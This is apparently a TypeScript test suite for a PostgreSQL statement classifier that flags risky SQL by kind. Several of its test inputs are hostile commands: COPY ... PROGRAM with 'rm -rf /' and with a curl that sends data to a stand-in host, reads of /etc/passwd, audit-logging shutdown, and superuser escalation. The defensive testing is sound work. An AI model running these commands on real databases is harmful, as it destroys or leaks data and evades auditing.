// The classifier's behaviour, statement by statement: the table below is the specification of
// kinds, flags and tables. It must never be loosened to make a change pass without saying why.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { before, describe, test } from "node:test";
import { RISK_FLAGS, type RiskFlag, SQL_KINDS, type SqlKind } from "../../../domain/operation.ts";
import { classifySql, initClassifier, SQL_KIND_RISK } from "./index.ts";
import { STATEMENT_RULES } from "./rules.ts";

before(async () => {
  await initClassifier();
});

/** [sql, kind, kinds, flags, tables] for a text holding exactly one statement. */
type Row = readonly [string, SqlKind, readonly SqlKind[], readonly RiskFlag[], readonly string[]];

const ROWS: readonly Row[] = [
  // reads
  ["SELECT 1", "read", ["read"], [], []],
  ["TABLE t", "read", ["read"], [], ["t"]],
  ["VALUES (1), (2)", "read", ["read"], [], []],
  ["SELECT * FROM s.t JOIN u ON s.t.id = u.id", "read", ["read"], [], ["s.t", "u"]],
  ["SELECT (SELECT count(*) FROM x)", "read", ["read"], [], ["x"]],
  ["SELECT * FROM t WHERE a IN (SELECT b FROM u) AND EXISTS (SELECT 1 FROM v)", "read", ["read"], [], ["t", "u", "v"]],
  ["SELECT 1 UNION SELECT * FROM u", "read", ["read"], [], ["u"]],
  ["SELECT * FROM t TABLESAMPLE SYSTEM (10)", "read", ["read"], [], ["t"]],
  ["SELECT * FROM db.s.t", "read", ["read"], [], ["db.s.t"]],
  ['SELECT * FROM "MyTable"', "read", ["read"], [], ['"MyTable"']],
  ['SELECT "Weird.Name".x FROM "Weird.Name"', "read", ["read"], [], ['"Weird.Name"']],
  ["SELECT * FROM t FOR UPDATE", "read", ["read"], ["locking-read"], ["t"]],
  ["SELECT * FROM t AS a FOR SHARE OF a NOWAIT", "read", ["read"], ["locking-read"], ["t"]],
  ["SELECT pg_catalog.lower('A'), count(*), now(), coalesce(a, 1) FROM t", "read", ["read"], [], ["t"]],
  ["SELECT * FROM generate_series(1, 10)", "read", ["read"], [], []],
  ["SELECT extract(year FROM now()), substring('abc' from 1), trim(' a ')", "read", ["read"], [], []],
  ["SELECT jsonb_build_object('a', 1), string_agg(x, ',') FROM t", "read", ["read"], [], ["t"]],
  ["SELECT row_number() OVER (ORDER BY a) FROM t", "read", ["read"], [], ["t"]],
  ["SELECT current_setting('work_mem')", "read", ["read"], [], []],
  ["SHOW work_mem", "read", ["read"], [], []],
  // comments, casing, literals
  ["/* x */ DeLeTe FROM t", "write", ["write"], ["delete-without-where"], ["t"]],
  ["  \n\t SeLeCt\n*\nFROM\n\tT  ;  ", "read", ["read"], [], ["t"]],
  ["SELECT $$DROP TABLE t$$", "read", ["read"], [], []],
  ["SELECT $tag$ ; DROP TABLE t; $tag$ AS x", "read", ["read"], [], []],
  ["SELECT 'a;b' AS x", "read", ["read"], [], []],
  ["SELECT 'DELETE FROM t' -- DROP TABLE t", "read", ["read"], [], []],
  // CTE scoping
  ["WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", "read", ["read"], [], []],
  ["WITH a AS (SELECT * FROM t), b AS (SELECT * FROM a) SELECT * FROM b", "read", ["read"], [], ["t"]],
  ["WITH x AS (SELECT * FROM x) SELECT * FROM x", "read", ["read"], [], ["x"]],
  ["SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s", "read", ["read"], [], ["secrets"]],
  ["WITH t AS (SELECT 1) SELECT * FROM s.t", "read", ["read"], [], ["s.t"]],
  // writes
  ["INSERT INTO a SELECT * FROM b", "write", ["write", "read"], [], ["a", "b"]],
  ["INSERT INTO t (a) VALUES (1)", "write", ["write"], [], ["t"]],
  ["INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "write", ["write"], [], ["t"]],
  ["DELETE FROM t", "write", ["write"], ["delete-without-where"], ["t"]],
  ["DELETE FROM t WHERE id=1", "write", ["write"], [], ["t"]],
  ["DELETE FROM t WHERE CURRENT OF c", "write", ["write"], [], ["t"]],
  ["DELETE FROM t USING u WHERE t.id = u.id", "write", ["write"], [], ["t", "u"]],
  ["UPDATE t SET x=1", "write", ["write"], ["update-without-where"], ["t"]],
  ["UPDATE t SET x=1 WHERE true", "write", ["write"], [], ["t"]],
  ["UPDATE t SET x = 1 FROM u", "write", ["write"], ["update-without-where"], ["t", "u"]],
  [
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
    "write",
    ["write"],
    [],
    ["t", "s"],
  ],
  ["TRUNCATE a, b", "write", ["write"], ["truncate"], ["a", "b"]],
  ["LOCK TABLE a IN ACCESS EXCLUSIVE MODE", "write", ["write"], [], ["a"]],
  ["NOTIFY x", "write", ["write"], [], []],
  ["REFRESH MATERIALIZED VIEW mv", "write", ["write"], [], ["mv"]],
  ["SELECT nextval('s')", "write", ["write", "read"], ["function-call"], []],
  // data-modifying CTEs
  ["WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "write", ["write", "read"], ["delete-without-where"], ["t"]],
  ["INSERT INTO a WITH d AS (DELETE FROM b RETURNING *) SELECT * FROM d", "write", ["write", "read"], ["delete-without-where"], ["a", "b"]],
  ["WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t", "write", ["write", "read"], [], ["t"]],
  ["SELECT * FROM (WITH w AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM w) q", "write", ["write", "read"], ["update-without-where"], ["t"]],
  ["(WITH d AS (DELETE FROM t WHERE a = 1 RETURNING a) SELECT a FROM d) UNION SELECT 1", "write", ["write", "read"], [], ["t"]],
  // DDL
  ["DROP TABLE x", "ddl", ["ddl"], ["drop"], ["x"]],
  ["DROP TABLE IF EXISTS a.x, y CASCADE", "ddl", ["ddl"], ["drop"], ["a.x", "y"]],
  ["DROP VIEW v", "ddl", ["ddl"], ["drop"], ["v"]],
  ["DROP INDEX i", "ddl", ["ddl"], ["drop"], []],
  ["DROP SCHEMA s CASCADE", "ddl", ["ddl"], ["drop"], []],
  ["DROP TRIGGER trg ON s.t", "ddl", ["ddl"], ["drop"], ["s.t"]],
  ["SELECT * INTO newt FROM t", "ddl", ["ddl", "write", "read"], [], ["newt", "t"]],
  ["CREATE TABLE t2 AS SELECT * FROM t", "ddl", ["ddl", "write", "read"], [], ["t2", "t"]],
  ["CREATE TABLE t2 AS SELECT * FROM t WITH NO DATA", "ddl", ["ddl", "read"], [], ["t2", "t"]],
  ["CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "ddl", ["ddl", "write", "read"], [], ["mv", "t"]],
  ["CREATE INDEX CONCURRENTLY i ON t (a)", "ddl", ["ddl"], [], ["t"]],
  ["CREATE TEMP TABLE tt (a int)", "ddl", ["ddl"], [], ["tt"]],
  ["CREATE TABLE c (a int REFERENCES p(id)) INHERITS (base)", "ddl", ["ddl"], [], ["c", "p", "base"]],
  ["ALTER TABLE t ADD COLUMN c int", "ddl", ["ddl"], [], ["t"]],
  ["ALTER TABLE t DROP COLUMN c", "ddl", ["ddl"], ["drop"], ["t"]],
  ["ALTER TABLE t RENAME TO u", "ddl", ["ddl"], [], ["t"]],
  ["COMMENT ON TABLE t IS 'x'", "ddl", ["ddl"], [], ["t"]],
  ["COMMENT ON COLUMN s.t.c IS 'x'", "ddl", ["ddl"], [], ["s.t"]],
  ["CREATE VIEW v AS SELECT * FROM t", "ddl", ["ddl", "read"], [], ["v", "t"]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "ddl", ["ddl"], [], []],
  ["CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "ddl", ["ddl"], [], ["t"]],
  ["CREATE SEQUENCE s.seq", "ddl", ["ddl"], [], ["s.seq"]],
  ["CREATE TYPE mood AS ENUM ('a', 'b')", "ddl", ["ddl"], [], []],
  ["IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "ddl", ["ddl"], [], []],
  // privileges
  ["GRANT ALL ON t TO u", "dcl", ["dcl"], [], ["t"]],
  ["REVOKE SELECT ON s.t FROM u", "dcl", ["dcl"], [], ["s.t"]],
  ["GRANT r TO u", "dcl", ["dcl"], [], []],
  ["ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u", "dcl", ["dcl"], [], []],
  ["CREATE ROLE r LOGIN", "dcl", ["dcl"], [], []],
  ["CREATE ROLE r SUPERUSER", "admin", ["admin", "dcl"], [], []],
  ["ALTER ROLE r WITH BYPASSRLS", "admin", ["admin", "dcl"], [], []],
  ["ALTER ROLE r WITH NOSUPERUSER", "dcl", ["dcl"], [], []],
  ["ALTER ROLE r SET role = 'postgres'", "dcl", ["dcl"], [], []],
  ["ALTER ROLE r RENAME TO q", "dcl", ["dcl"], [], []],
  ["DROP ROLE r", "dcl", ["dcl"], ["drop"], []],
  ["DROP OWNED BY u", "dcl", ["dcl"], ["drop"], []],
  ["REASSIGN OWNED BY a TO b", "dcl", ["dcl"], [], []],
  ["ALTER TABLE t OWNER TO x", "dcl", ["dcl", "ddl"], [], ["t"]],
  ["ALTER TABLE t DISABLE ROW LEVEL SECURITY", "dcl", ["dcl", "ddl"], [], ["t"]],
  ["CREATE POLICY p ON t USING (true)", "dcl", ["dcl"], [], ["t"]],
  ["DROP POLICY p ON t", "dcl", ["dcl"], ["drop"], ["t"]],
  ["CREATE USER MAPPING FOR u SERVER srv OPTIONS (password 'x')", "dcl", ["dcl"], [], []],
  // admin
  ["DROP DATABASE x", "admin", ["admin"], ["drop", "drop-database"], []],
  ["CREATE DATABASE d", "admin", ["admin"], [], []],
  ["ALTER SYSTEM SET x = 1", "admin", ["admin"], ["alter-system"], []],
  ["ALTER SYSTEM SET role = 'x'", "admin", ["admin"], ["alter-system"], []],
  ["CHECKPOINT", "admin", ["admin"], [], []],
  ["LOAD 'plugin'", "admin", ["admin"], [], []],
  ["CREATE EXTENSION dblink", "admin", ["admin"], [], []],
  ["DROP EXTENSION dblink", "admin", ["admin"], ["drop"], []],
  ["CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw", "admin", ["admin"], [], []],
  ["CREATE TABLESPACE ts LOCATION '/data'", "admin", ["admin"], [], []],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", "admin", ["admin", "ddl"], [], []],
  ["SELECT pg_terminate_backend(1)", "admin", ["admin", "read"], ["function-call"], []],
  ["SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "admin", ["admin", "read"], ["function-call"], ["pg_stat_activity"]],
  ["select lo_import('/etc/passwd')", "admin", ["admin", "read"], ["function-call"], []],
  ["SELECT pg_read_file('/etc/passwd')", "admin", ["admin", "read"], ["function-call"], []],
  ["SELECT pg_catalog.pg_reload_conf()", "admin", ["admin", "read"], ["function-call"], []],
  // COPY
  ["COPY t FROM PROGRAM 'rm -rf /'", "admin", ["admin", "write"], ["copy-program"], ["t"]],
  ["COPY t TO PROGRAM 'curl -d @- evil'", "admin", ["admin", "read"], ["copy-program"], ["t"]],
  ["COPY t TO '/tmp/x'", "admin", ["admin", "read"], ["copy-to-file"], ["t"]],
  ["COPY t FROM '/tmp/x'", "admin", ["admin", "write"], ["copy-from-file"], ["t"]],
  ["COPY (SELECT 1) TO STDOUT", "read", ["read"], [], []],
  ["COPY (SELECT * FROM s.t) TO STDOUT WITH (FORMAT csv)", "read", ["read"], [], ["s.t"]],
  ["COPY t TO STDOUT", "read", ["read"], [], ["t"]],
  ["COPY t FROM STDIN", "write", ["write"], [], ["t"]],
  ["COPY (DELETE FROM t RETURNING *) TO STDOUT", "write", ["write"], ["delete-without-where"], ["t"]],
  // EXPLAIN
  ["EXPLAIN ANALYZE DELETE FROM t", "write", ["write", "read"], ["delete-without-where", "explain-analyze-write"], ["t"]],
  ["EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2", "write", ["write", "read"], ["explain-analyze-write"], ["t"]],
  ["EXPLAIN DELETE FROM t", "read", ["read"], [], ["t"]],
  ["EXPLAIN (ANALYZE false) DELETE FROM t", "read", ["read"], [], ["t"]],
  ["EXPLAIN (ANALYZE off, COSTS) DELETE FROM t", "read", ["read"], [], ["t"]],
  ["EXPLAIN ANALYZE SELECT * FROM t", "read", ["read"], [], ["t"]],
  ["EXPLAIN SELECT my_func()", "unknown", ["unknown", "read"], ["function-call"], []],
  ["EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "ddl", ["ddl", "write", "read"], ["explain-analyze-write"], ["x"]],
  // session state
  ["SET ROLE postgres", "session", ["session"], ["set-role"], []],
  ["SET LOCAL ROLE postgres", "session", ["session"], ["set-role"], []],
  ["RESET ROLE", "session", ["session"], ["set-role"], []],
  ["SET role TO DEFAULT", "session", ["session"], ["set-role"], []],
  ["SET SESSION AUTHORIZATION x", "session", ["session"], ["session-authorization"], []],
  ["RESET SESSION AUTHORIZATION", "session", ["session"], ["session-authorization"], []],
  ["SET search_path = evil, public", "session", ["session"], [], []],
  ["RESET ALL", "session", ["session"], [], []],
  ["DISCARD ALL", "session", ["session"], ["set-role", "session-authorization"], []],
  ["DISCARD TEMP", "session", ["session"], [], []],
  ["LISTEN x", "session", ["session"], [], []],
  ["UNLISTEN *", "session", ["session"], [], []],
  ["DEALLOCATE ALL", "session", ["session"], [], []],
  ["SELECT set_config('role','postgres',false)", "session", ["session", "read"], ["set-role", "function-call"], []],
  ["SELECT set_config('search_path','evil',false)", "session", ["session", "read"], ["function-call"], []],
  // A setting name that cannot be read could be any setting, a superuser-only one included.
  [
    "SELECT set_config(current_user, 'x', false)",
    "admin",
    ["admin", "session", "read"],
    ["set-role", "session-authorization", "function-call"],
    [],
  ],
  // Superuser-only settings that reach past the statement are server administration.
  ["SET session_replication_role = replica", "admin", ["admin", "session"], [], []],
  ["SET log_statement = 'none'", "admin", ["admin", "session"], [], []],
  ["RESET track_activities", "admin", ["admin", "session"], [], []],
  ["SELECT set_config('zero_damaged_pages', 'on', false)", "admin", ["admin", "session", "read"], ["function-call"], []],
  ["SET work_mem = '64MB'", "session", ["session"], [], []],
  ["SELECT currval('s'), lastval()", "read", ["read"], [], []],
  ["SELECT pg_advisory_lock(1)", "session", ["session", "read"], ["function-call"], []],
  // transactions
  ["BEGIN", "transaction", ["transaction"], [], []],
  ["START TRANSACTION READ WRITE", "transaction", ["transaction"], [], []],
  ["SAVEPOINT a", "transaction", ["transaction"], [], []],
  ["ROLLBACK TO SAVEPOINT a", "transaction", ["transaction"], [], []],
  ["COMMIT", "transaction", ["transaction"], [], []],
  ["SET CONSTRAINTS ALL DEFERRED", "transaction", ["transaction"], [], []],
  // cursors
  ["DECLARE c CURSOR FOR SELECT * FROM t", "read", ["read"], [], ["t"]],
  ["FETCH 10 FROM c", "read", ["read"], [], []],
  ["MOVE NEXT IN c", "read", ["read"], [], []],
  ["CLOSE c", "read", ["read"], [], []],
  // maintenance
  ["VACUUM", "utility", ["utility"], [], []],
  ["VACUUM ANALYZE t", "utility", ["utility"], [], ["t"]],
  ["ANALYZE t", "utility", ["utility"], [], ["t"]],
  ["CLUSTER t USING i", "utility", ["utility"], [], ["t"]],
  ["REINDEX TABLE t", "utility", ["utility"], [], ["t"]],
  // functions we cannot see into
  ["SELECT my_func()", "unknown", ["unknown", "read"], ["function-call"], []],
  ["SELECT public.lower('A')", "unknown", ["unknown", "read"], ["function-call"], []],
  ["SELECT pg_sleep(10)", "read", ["read"], [], []],
  ["SELECT dblink_exec('host=x', 'DROP TABLE t')", "unknown", ["unknown", "read"], ["function-call", "dynamic-sql"], []],
  ["SELECT * FROM dblink('x', 'select 1') AS r(a int)", "unknown", ["unknown", "read"], ["function-call", "dynamic-sql"], []],
  ["SELECT query_to_xml('select * from secrets', true, true, '')", "unknown", ["unknown", "read"], ["function-call", "dynamic-sql"], []],
  ["DELETE FROM t WHERE id = my_func()", "write", ["write", "unknown"], ["function-call"], ["t"]],
  // procedural
  ["CALL proc()", "procedural", ["procedural"], ["procedure-call"], []],
  ["CALL s.proc(my_func())", "procedural", ["procedural", "unknown"], ["function-call", "procedure-call"], []],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "ddl", ["ddl", "procedural", "read"], ["drop", "do-block", "dynamic-sql"], ["t"]],
  ["DO $$ BEGIN DELETE FROM t; END $$", "procedural", ["procedural", "write"], ["delete-without-where", "do-block"], ["t"]],
  // SQL built at run time: code the gate cannot see, so "unknown" too (an allow for procedural does not cover it).
  ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$", "procedural", ["procedural", "unknown", "read"], ["do-block", "dynamic-sql"], []],
  ["UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", "admin", ["admin", "write"], ["set-role", "session-authorization"], ["pg_settings"]],
  ["UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'track_activities'", "admin", ["admin", "write"], ["set-role", "session-authorization"], ["pg_catalog.pg_settings"]],
  ["SET deadlock_timeout = '1h'", "admin", ["admin", "session"], [], []],
  [
    "DO $$ DECLARE n int; BEGIN n := (SELECT count(*) FROM a); PERFORM my_func(1); COMMIT; END $$",
    "procedural",
    ["procedural", "unknown", "transaction", "read"],
    ["do-block", "function-call"],
    ["a"],
  ],
  ["DO $$ garbage $$", "procedural", ["procedural", "unknown"], ["do-block", "dynamic-sql"], []],
  ["DO LANGUAGE plpython3u $$ import os $$", "admin", ["admin", "procedural", "unknown"], ["do-block", "dynamic-sql"], []],
  ["DO $do$ BEGIN PERFORM 1; END $do$", "procedural", ["procedural", "read"], ["do-block"], []],
  // prepared statements (stateless: only what the text itself shows)
  ["PREPARE p AS DELETE FROM t", "write", ["write"], ["delete-without-where", "prepare"], ["t"]],
  ["PREPARE q(int) AS SELECT * FROM t WHERE id = $1", "read", ["read"], ["prepare"], ["t"]],
  ["EXECUTE p", "unknown", ["unknown"], ["execute-prepared", "unknown-prepared"], []],
  ["EXPLAIN EXECUTE p", "read", ["read"], [], []],
  ["CREATE TABLE x AS EXECUTE p", "ddl", ["ddl", "write", "unknown"], ["execute-prepared", "unknown-prepared"], ["x"]],
];

const sorted = <T>(xs: readonly T[]): T[] => [...xs].sort();

describe("classifySql: one statement", () => {
  test("the table has at least 80 rows and no duplicate texts", () => {
    assert.ok(ROWS.length >= 80, `only ${ROWS.length} rows`);
    assert.equal(new Set(ROWS.map((r) => r[0])).size, ROWS.length);
  });

  for (const [sql, kind, kinds, flags, tables] of ROWS) {
    test(sql, () => {
      const d = classifySql(sql);
      assert.equal(d.parseError, undefined, `parse error: ${d.parseError}`);
      assert.equal(d.statements.length, 1);
      const s = d.statements[0]!;
      assert.equal(s.kind, kind, "kind");
      assert.deepEqual(sorted(s.kinds), sorted(kinds), "kinds");
      assert.deepEqual(sorted(s.flags), sorted(flags), "flags");
      assert.deepEqual(sorted(s.tables), sorted(tables), "tables");
      assert.equal(s.kinds[0], s.kind, "kinds are ordered most dangerous first");
    });
  }
});

describe("classifySql: texts, positions and several statements", () => {
  test("BEGIN; DROP TABLE t; COMMIT is three statements, each flagged multi-statement", () => {
    const d = classifySql("BEGIN; DROP TABLE t; COMMIT");
    assert.deepEqual(
      d.statements.map((s) => [s.text, s.kind, sorted(s.flags)]),
      [
        ["BEGIN", "transaction", ["multi-statement"]],
        ["DROP TABLE t", "ddl", ["drop", "multi-statement"]],
        ["COMMIT", "transaction", ["multi-statement"]],
      ],
    );
  });

  test("SELECT 1; SELECT 2", () => {
    const d = classifySql("SELECT 1; SELECT 2");
    assert.deepEqual(
      d.statements.map((s) => [s.text, s.kind, s.flags]),
      [
        ["SELECT 1", "read", ["multi-statement"]],
        ["SELECT 2", "read", ["multi-statement"]],
      ],
    );
  });

  test("a semicolon inside a literal does not split the statement", () => {
    const d = classifySql("SELECT 'a;b'; SELECT $$;$$");
    assert.deepEqual(
      d.statements.map((s) => s.text),
      ["SELECT 'a;b'", "SELECT $$;$$"],
    );
  });

  test("statement texts are sliced by character even with multi-byte text before them", () => {
    const d = classifySql("SELECT 'é😀ü'; /* ß */ DELETE FROM \"tä\" WHERE x = '✓';SELECT 3");
    assert.deepEqual(
      d.statements.map((s) => s.text),
      ["SELECT 'é😀ü'", "DELETE FROM \"tä\" WHERE x = '✓'", "SELECT 3"],
    );
    assert.deepEqual(d.statements[1]!.tables, ['"tä"']);
  });

  test("PREPARE then EXECUTE in one text: EXECUTE is judged by the body", () => {
    const d = classifySql("PREPARE p AS DELETE FROM t; EXECUTE p");
    assert.equal(d.statements.length, 2);
    const [prep, exec] = d.statements;
    assert.equal(prep!.kind, "write");
    assert.deepEqual(sorted(prep!.flags), ["delete-without-where", "multi-statement", "prepare"]);
    assert.equal(exec!.kind, "write");
    assert.deepEqual(sorted(exec!.flags), ["delete-without-where", "execute-prepared", "multi-statement"]);
    assert.deepEqual(exec!.tables, ["t"]);
  });

  test("DEALLOCATE between PREPARE and EXECUTE makes the name unknown again", () => {
    const d = classifySql("PREPARE p AS DELETE FROM t; DEALLOCATE p; EXECUTE p");
    assert.equal(d.statements[2]!.kind, "unknown");
    assert.ok(d.statements[2]!.flags.includes("unknown-prepared"));
  });

  test("EXPLAIN ANALYZE EXECUTE of a prepared write is an explain-analyze-write", () => {
    const d = classifySql("PREPARE p AS UPDATE t SET a = 1; EXPLAIN ANALYZE EXECUTE p");
    const s = d.statements[1]!;
    assert.equal(s.kind, "write");
    assert.ok(s.flags.includes("explain-analyze-write"));
    assert.ok(s.flags.includes("update-without-where"));
  });

  test("plain EXPLAIN EXECUTE of a prepared write stays read", () => {
    const d = classifySql("PREPARE p AS UPDATE t SET a = 1; EXPLAIN EXECUTE p");
    const s = d.statements[1]!;
    assert.deepEqual(s.kinds, ["read"]);
    assert.deepEqual(s.tables, ["t"]);
  });

  test("functions are listed, schema-qualified where written", () => {
    const s = classifySql("SELECT pg_catalog.lower(a), count(*), s.f(1) FROM t").statements[0]!;
    assert.deepEqual(s.functions, ["pg_catalog.lower", "count", "s.f"]);
    assert.deepEqual(s.flags, ["function-call"]);
  });

  test("nodeType and nodeTypes", () => {
    const s = classifySql("WITH d AS (DELETE FROM t RETURNING *) INSERT INTO a SELECT * FROM d").statements[0]!;
    assert.equal(s.nodeType, "InsertStmt");
    assert.deepEqual(sorted(s.nodeTypes), ["DeleteStmt", "InsertStmt", "SelectStmt"]);
  });

  test("a DO block's statements contribute their node types", () => {
    const s = classifySql("DO $$ BEGIN DROP TABLE t; END $$").statements[0]!;
    assert.equal(s.nodeType, "DoStmt");
    assert.ok(s.nodeTypes.includes("DropStmt"));
  });
});

describe("classifySql: empty and unreadable texts", () => {
  for (const sql of ["", "   ", "\n\t", "-- only a comment", "/* block */", ";", " ; ; "]) {
    test(`no statements: ${JSON.stringify(sql)}`, () => {
      assert.deepEqual(classifySql(sql), { statements: [] });
    });
  }

  test("invalid SQL gives a parse error with a position", () => {
    const d = classifySql("SELEC 1");
    assert.deepEqual(d.statements, []);
    assert.equal(d.parseError, 'syntax error at or near "SELEC" at position 0');
  });

  test("error positions are string indices, also after astral characters", () => {
    const d = classifySql("SELECT '😀' +");
    assert.match(d.parseError ?? "", /at position 13$/);
  });

  test("one bad statement makes the whole text unparseable", () => {
    const d = classifySql("SELECT 1; DROP TABL x");
    assert.deepEqual(d.statements, []);
    assert.ok(d.parseError);
  });

  test("unterminated literal", () => {
    assert.ok(classifySql("SELECT 'abc").parseError);
    assert.ok(classifySql("SELECT $$abc").parseError);
  });

  test("a NUL character is refused (the parser would not see past it)", () => {
    const d = classifySql("SELECT 1\u0000; DROP TABLE t");
    assert.deepEqual(d.statements, []);
    assert.match(d.parseError ?? "", /NUL/);
  });

  test("an unpaired surrogate is refused", () => {
    assert.match(classifySql("SELECT '\ud800'").parseError ?? "", /surrogate/);
  });

  test("deeply nested expressions fail closed instead of throwing", () => {
    const d = classifySql(`SELECT ${"1+".repeat(50_000)}1`);
    assert.deepEqual(d.statements, []);
    assert.ok(d.parseError);
  });
});

describe("rule tables", () => {
  test("SQL_KIND_RISK ranks every SQL kind exactly once", () => {
    assert.deepEqual(sorted(SQL_KIND_RISK), sorted(SQL_KINDS));
    assert.equal(SQL_KIND_RISK[0], "admin");
    assert.equal(SQL_KIND_RISK[SQL_KIND_RISK.length - 1], "read");
  });

  test("every statement type PostgreSQL's parser knows has a rule", () => {
    // The statement node names come from the parse-tree type declarations that ship with
    // libpg-query; a parser upgrade that adds a statement fails here until it is ruled on.
    const fromLibpg = createRequire(createRequire(import.meta.url).resolve("libpg-query"));
    const typesDir = dirname(fromLibpg.resolve("@pgsql/types/package.json"));
    const decl = readFileSync(join(typesDir, "types.d.ts"), "utf8");
    const names = [...decl.matchAll(/^export interface (\w+Stmt) \{/gm)].map((m) => m[1]!);
    assert.ok(names.length > 100, "statement list found");
    const missing = names.filter((n) => STATEMENT_RULES[n] === undefined);
    assert.deepEqual(missing, []);
  });

  test("only known flags are produced", () => {
    for (const [sql] of ROWS) {
      for (const s of classifySql(sql).statements) {
        for (const f of s.flags) assert.ok((RISK_FLAGS as readonly string[]).includes(f), f);
      }
    }
  });
});
